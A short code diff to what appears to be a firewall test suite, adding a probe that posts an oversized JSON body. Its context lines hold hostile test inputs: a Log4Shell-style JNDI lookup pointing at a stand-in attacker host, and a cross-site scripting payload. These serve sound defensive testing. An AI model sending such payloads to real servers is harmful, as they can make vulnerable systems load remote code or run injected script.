@@ -184,6 +184,9 @@ CASES += [
             Probe("GET", "/echo", headers=(("x-api-version", "${jndi:ldap://evil.example/a}"),)),
             Probe("POST", "/echo", headers=_JSON, body=b'{"text": "<script>alert(1)</script>"}'),
             Probe("POST", "/echo", headers=_JSON, body=b'{"text": "Hello O\'Brien"}'),
+            # Larger than a typical Envoy buffer, within the WAF's 1 MiB: inspected whole on
+            # every door (the examples buffer the WAF's limit + 1).
+            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "' + b"a" * 200_000 + b'"}'),
             Probe(
                 "POST",
                 "/echo",
